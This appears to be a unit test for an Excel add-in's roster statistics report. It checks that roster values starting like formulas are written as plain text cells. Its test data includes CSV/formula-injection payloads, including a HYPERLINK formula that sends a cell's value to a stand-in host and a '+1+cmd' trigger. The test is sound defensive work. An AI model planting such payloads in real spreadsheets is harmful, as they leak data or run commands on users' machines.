import { findTable, matchColumns } from "../../src/jobs/columns";
import { statsReport } from "../../src/stats/job";
import { writeReportSheet } from "../../src/taskpane/report-sheet";

/**
 * The pane's report sheet writes words taken from the roster (系统, 单位性质) as column heads and row labels.
 * A cell holding `=HYPERLINK("http://…"&B2,"x")` or `+1+cmd` must arrive as text, not as a live formula
 * (issue 10, item 3): the cell is formatted as text (“@”) before its value is written, as Excel requires.
 */
const LIVE = ['=HYPERLINK("http://x.example/?"&B2,"x")', "+1+cmd", "@SUM(1)", "-2+3"];

test("roster words that start like a formula are written as text", async () => {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const { createHost } = require("../fakes/fake-office.js");
  const host = createHost({ sheets: { 名册: [] } });
  Object.assign(globalThis, { Office: host.Office, Excel: host.Excel });
  try {
    const grid = [
      ["姓名", "单位性质", "系统", "职称", "年龄"],
      ["甲", LIVE[2], LIVE[0], "高级教师", 40],
      ["乙", "事业单位", LIVE[1], "主治医师", 30],
      ["丙", "事业单位", LIVE[3], "二级教师", 25],
      ["丁", "企业", "教育", "=1+1", 50],
    ];
    const table = findTable({ rows: grid })!;
    const report = statsReport(table, matchColumns(table.headers), { year: 2025, rule: { rounding: "round", decimals: 2 } });
    await writeReportSheet(report, "职称统计2025");
    const dump: unknown[][] = host.dump("职称统计2025");
    const cells: { at: string; value: unknown }[] = [];
    dump.forEach((row, r) => row.forEach((value, c) => cells.push({ at: `${String.fromCharCode(65 + c)}${r + 1}`, value })));
    const live = cells.filter((x) => typeof x.value === "string" && /^[=+\-@]/.test(x.value));
    // every one of the four words is on the sheet (as a system or unit kind heading or row label) …
    for (const w of LIVE) expect(live.some((x) => String(x.value).toLowerCase() === w.toLowerCase())).toBe(true);
    // … and each such cell is text: formatted “@”, holding no formula
    for (const x of live) {
      const cell = host.cell("职称统计2025", x.at);
      expect([x.at, cell.numberFormat, cell.formula ?? null]).toEqual([x.at, "@", null]);
    }
    // the figures beside them keep their number formats
    const b1 = report.blocks[0]!.top;
    expect(host.cell("职称统计2025", `C${b1 + 3}`).numberFormat).toBe("0.00");
  } finally {
    delete (globalThis as { Office?: unknown }).Office;
    delete (globalThis as { Excel?: unknown }).Excel;
  }
});
